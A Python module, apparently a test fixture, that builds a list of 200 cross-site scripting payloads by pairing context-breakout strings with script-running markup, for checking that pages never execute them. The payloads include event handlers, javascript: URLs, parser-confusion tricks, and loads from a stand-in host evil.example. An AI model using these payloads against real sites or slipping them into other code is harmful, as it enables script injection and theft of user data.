"""Two hundred texts that try to become markup: what no page may ever run."""

from __future__ import annotations

from itertools import product
from typing import Final

# What closes the place where a text stands, and what would run once it is closed.
_CLOSING: Final = (
    '"', "'", '">', "'>", "</td>", "</summary>", "</blockquote>", "</textarea>",
    "</option></select>", "</svg>", "&quot;>",
)  # fmt: skip
_RUNNING: Final = (
    "<script>alert(1)</script>", "<script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>x</details>",
    "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>", " onmouseover=alert(1) x=",
)  # fmt: skip
HOSTILE: Final = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</details></summary><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "${alert(1)} `alert(1)` javascript:alert(1)",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u2028<script>alert(1)</script>\u202e",
]
HOSTILE_200: Final = HOSTILE + [a + b for a, b in product(_CLOSING, _RUNNING)]
